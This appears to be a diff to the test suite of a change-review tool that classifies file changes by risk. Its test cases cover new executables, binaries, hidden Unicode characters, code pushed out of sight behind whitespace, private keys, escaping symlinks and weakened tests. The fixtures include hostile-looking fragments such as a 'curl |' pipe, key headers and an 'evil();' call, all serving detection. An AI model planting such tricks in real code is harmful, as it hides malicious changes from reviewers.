-    ['that was a link', { path: 'a.ts', before: link('../../x'), after: file('a\n') }, { lane: 'inert', reasons: ['Was a symbolic link to ../../x before.'] }],
-    ['with tests, deleted', { path: 'src/a.test.ts', before: file(''), after: null }, { lane: 'inert', reasons: ['Deletes a file with tests.'] }],
-    ['with tests, skipped', { path: 'src/a.test.ts', before: file("test('a', () => {});\n"), after: file("test.skip('a', () => {});\n") }, {
-      lane: 'inert',
-      reasons: ["Line 1 skips tests: test.skip('a', () => {});"],
-    }],
-    ['with tests, weakened', { path: 'test_a.py', before: file('def test_a():\n  assert x\n  assert y\ndef test_b():\n  pass\n'), after: file('def test_a():\n  assert x\n') }, {
-      lane: 'inert',
-      reasons: ['Has 1 fewer tests than before.', 'Has 1 fewer assertions than before.'],
-    }],
-    ['kept in Git LFS', { path: 'a.bin', before: null, after: file('version https://git-lfs.github.com/spec/v1\noid sha256:x\n') }, {
-      lane: 'inert',
-      reasons: ['A Git LFS pointer: the content itself lies elsewhere and is not shown.'],
-    }],
+  const cases: readonly (readonly [
+    name: string,
+    input: Parameters<typeof classify>[0],
+    expected: ReturnType<typeof classify>,
+  ])[] = [
+    [
+      'that becomes executable',
+      { path: 'tool.py', before: file('x'), after: { ...file('x'), mode: '100755' } },
+      { lane: 'host', reasons: ['Becomes executable.'] },
+    ],
+    [
+      'that stays executable',
+      { path: 'tool.py', before: { ...file('x'), mode: '100755' }, after: { ...file('y'), mode: '100755' } },
+      { lane: 'inert', reasons: [] },
+    ],
+    [
+      'that is no longer executable',
+      { path: 'a', before: { ...file('x'), mode: '100755' }, after: file('x') },
+      { lane: 'inert', reasons: ['Is no longer executable.'] },
+    ],
+    [
+      'that is a script without an extension',
+      { path: 'bin/tool', before: null, after: file('#!/usr/bin/env node\n') },
+      { lane: 'host', reasons: ['A script run by /usr/bin/env node.'] },
+    ],
+    [
+      'that is an executable script with one',
+      {
+        path: 'a.py',
+        before: { ...file(''), mode: '100755' },
+        after: { ...file('#! /bin/py\u001b\n'), mode: '100755' },
+      },
+      {
+        lane: 'host',
+        reasons: ['A script run by /bin/py\\x1b.', 'Adds control, invisible or text-reordering characters: U+001B.'],
+      },
+    ],
+    [
+      'that only begins like a script',
+      { path: 'lib', before: null, after: file('#![no_std]\n') },
+      { lane: 'inert', reasons: [] },
+    ],
+    [
+      'that is a program',
+      { path: 'a.png', before: null, after: binary([0x7f, 0x45, 0x4c, 0x46]) },
+      { lane: 'host', reasons: ['An ELF program or library, 70 bytes.'] },
+    ],
+    [
+      'that is a Windows program',
+      { path: 'a.dat', before: null, after: binary([0x4d, 0x5a]) },
+      { lane: 'host', reasons: ['A Windows program or library, 70 bytes.'] },
+    ],
+    [
+      'that is a macOS program',
+      { path: 'a.dat', before: null, after: binary([0xcf, 0xfa, 0xed, 0xfe]) },
+      { lane: 'host', reasons: ['A macOS program or library, 70 bytes.'] },
+    ],
+    [
+      'that is a huge script',
+      { path: 'a', before: null, after: binary([0x23, 0x21]) },
+      { lane: 'host', reasons: ['A large or binary script with an interpreter line, 70 bytes.'] },
+    ],
+    [
+      'that is a picture',
+      { path: 'a.png', before: null, after: { mode: '100644', text: null, bytes: 70 } },
+      {
+        lane: 'inert',
+        reasons: ['Binary or too large to show, 70 bytes; its content was not checked.'],
+      },
+    ],
+    [
+      'that could not be looked into at all',
+      { path: 'a.dat', before: null, after: { mode: '100644', text: null, bytes: 70 } },
+      {
+        lane: 'host',
+        reasons: ['Binary or too large to show, 70 bytes; its content was not checked.'],
+      },
+    ],
+    [
+      'with hidden characters',
+      { path: 'a.ts', before: file('x\u200b\n'), after: file('x\u200b\nif (a\u202e\u2066) {}\n') },
+      {
+        lane: 'inert',
+        reasons: ['Adds control, invisible or text-reordering characters: U+202E, U+2066.'],
+      },
+    ],
+    [
+      'with Windows line ends',
+      { path: 'a.ts', before: null, after: file('a\r\nb\r\n') },
+      { lane: 'inert', reasons: [] },
+    ],
+    [
+      'with a very long line',
+      { path: 'a.ts', before: null, after: file(`a\n${'x'.repeat(2001)}`) },
+      { lane: 'inert', reasons: ['Line 2 has 2001 characters.'] },
+    ],
+    [
+      'with code pushed out of sight',
+      { path: 'a.ts', before: null, after: file(`ok();${' '.repeat(150)}evil();\n`) },
+      {
+        lane: 'inert',
+        reasons: ['Line 1 has text far to the right, after a long run of blanks.'],
+      },
+    ],
+    [
+      'with a private key',
+      { path: 'a.ts', before: file('a\n'), after: file('a\n-----BEGIN RSA PRIVATE KEY-----\n') },
+      { lane: 'ci', reasons: ['Line 2 looks like a private key.'] },
+    ],
+    [
+      'with a secret that was there before',
+      { path: 'a.ts', before: file(`AKIA${'A'.repeat(16)}\n`), after: file(`b\nAKIA${'A'.repeat(16)}\n`) },
+      { lane: 'inert', reasons: [] },
+    ],
+    [
+      'that was a link',
+      { path: 'a.ts', before: link('../../x'), after: file('a\n') },
+      { lane: 'inert', reasons: ['Was a symbolic link to ../../x before.'] },
+    ],
+    [
+      'with tests, deleted',
+      { path: 'src/a.test.ts', before: file(''), after: null },
+      { lane: 'inert', reasons: ['Deletes a file with tests.'] },
+    ],
+    [
+      'with tests, skipped',
+      { path: 'src/a.test.ts', before: file("test('a', () => {});\n"), after: file("test.skip('a', () => {});\n") },
+      {
+        lane: 'inert',
+        reasons: ["Line 1 skips tests: test.skip('a', () => {});"],
+      },
+    ],
+    [
+      'with tests, weakened',
+      {
+        path: 'test_a.py',
+        before: file('def test_a():\n  assert x\n  assert y\ndef test_b():\n  pass\n'),
+        after: file('def test_a():\n  assert x\n'),
+      },
+      {
+        lane: 'inert',
+        reasons: ['Has 1 fewer tests than before.', 'Has 1 fewer assertions than before.'],
+      },
+    ],
+    [
+      'kept in Git LFS',
+      { path: 'a.bin', before: null, after: file('version https://git-lfs.github.com/spec/v1\noid sha256:x\n') },
+      {
+        lane: 'inert',
+        reasons: ['A Git LFS pointer: the content itself lies elsewhere and is not shown.'],
+      },
+    ],
   ];
   test.each(cases)('%s', (_, input, expected) => {
     expect(classify(input)).toEqual(expected);
@@ -368,7 +758,8 @@ describe('any file', () => {
   });
 
   test('with references to secrets is no leak', () => {
-    const text = "process.env.AWS_SECRET_ACCESS_KEY\n//r.test/:_authToken=${NPM_TOKEN}\nhttps://${user}:${pass}@x.test\nsk-something\nAKIAX\nhttps://x.test:80/@scope/y\n";
+    const text =
+      'process.env.AWS_SECRET_ACCESS_KEY\n//r.test/:_authToken=${NPM_TOKEN}\nhttps://${user}:${pass}@x.test\nsk-something\nAKIAX\nhttps://x.test:80/@scope/y\n';
     expect(classify({ path: 'src/a.ts', before: null, after: file(text) })).toEqual({ lane: 'inert', reasons: [] });
   });
 });
@@ -390,12 +781,23 @@ describe('a symbolic link', () => {
     ['', 'which reaches into .git or is not a valid path'],
   ])('to %j is on the host lane', (target, why) => {
     const shown = target.replace('\u200c', '<U+200C>');
-    expect(classify({ path: 'link', before: null, after: link(target) })).toEqual({ lane: 'host', reasons: [`A symbolic link to ${shown}, ${why}.`] });
+    expect(classify({ path: 'link', before: null, after: link(target) })).toEqual({
+      lane: 'host',
+      reasons: [`A symbolic link to ${shown}, ${why}.`],
+    });
   });
 
   test('inside the project is told with its target', () => {
-    for (const [path, target] of [['a/b/link', '../../src'], ['link', './src/x'], ['a/link', '..'], ['link', 'x\\y']] as const) {
-      expect(classify({ path, before: null, after: link(target) })).toEqual({ lane: 'inert', reasons: [`A symbolic link to ${target}.`] });
+    for (const [path, target] of [
+      ['a/b/link', '../../src'],
+      ['link', './src/x'],
+      ['a/link', '..'],
+      ['link', 'x\\y'],
+    ] as const) {
+      expect(classify({ path, before: null, after: link(target) })).toEqual({
+        lane: 'inert',
+        reasons: [`A symbolic link to ${target}.`],
+      });
     }
     expect(classify({ path: 'a/link', before: null, after: link('../../x') }).lane).toBe('host');
   });
@@ -403,7 +805,12 @@ describe('a symbolic link', () => {
   test('in place of a file git reads is on the host lane', () => {
     expect(classify({ path: '.gitignore', before: file(''), after: link('x') })).toEqual({
       lane: 'host',
-      reasons: ['Git reads this file, and expects it not to be a link.', 'Decides which files git and other tools do not show or publish.', 'A symbolic link to x.', 'Was a file before.'],
+      reasons: [
+        'Git reads this file, and expects it not to be a link.',
+        'Decides which files git and other tools do not show or publish.',
+        'A symbolic link to x.',
+        'Was a file before.',
+      ],
     });
   });
 
@@ -414,8 +821,38 @@ describe('a symbolic link', () => {
 
 test('hostile text does not make the review slow', () => {
   const started = performance.now();
-  const pieces = ['eyJ', 'eyJa-', '\n', ' ', 'curl |', '"path', 'sk-', '://a:', 'https:', '\t x', '=> ', 'a=', '-----BEGIN ', '[[', '\u200d\u{1f468}', '$' + '{{', '@', 'test.'];
-  for (const path of ['a.test.ts', 'package.json', '.npmrc', '.gitattributes', '.gitmodules', '.github/workflows/x.yml', 'yarn.lock', 'pyproject.toml', 'go.mod', '.vscode/x']) {
+  const pieces = [
+    'eyJ',
+    'eyJa-',
+    '\n',
+    ' ',
+    'curl |',
+    '"path',
+    'sk-',
+    '://a:',
+    'https:',
+    '\t x',
+    '=> ',
+    'a=',
+    '-----BEGIN ',
+    '[[',
+    '\u200d\u{1f468}',
+    '$' + '{{',
+    '@',
+    'test.',
+  ];
+  for (const path of [
+    'a.test.ts',
+    'package.json',
+    '.npmrc',
+    '.gitattributes',
+    '.gitmodules',
+    '.github/workflows/x.yml',
+    'yarn.lock',
+    'pyproject.toml',
+    'go.mod',
+    '.vscode/x',
+  ]) {
     for (const piece of pieces) classify({ path, before: file(''), after: file(piece.repeat(100_000 / piece.length)) });
   }
   classify({ path: `${'a/'.repeat(2000)}x`, before: null, after: file('') });
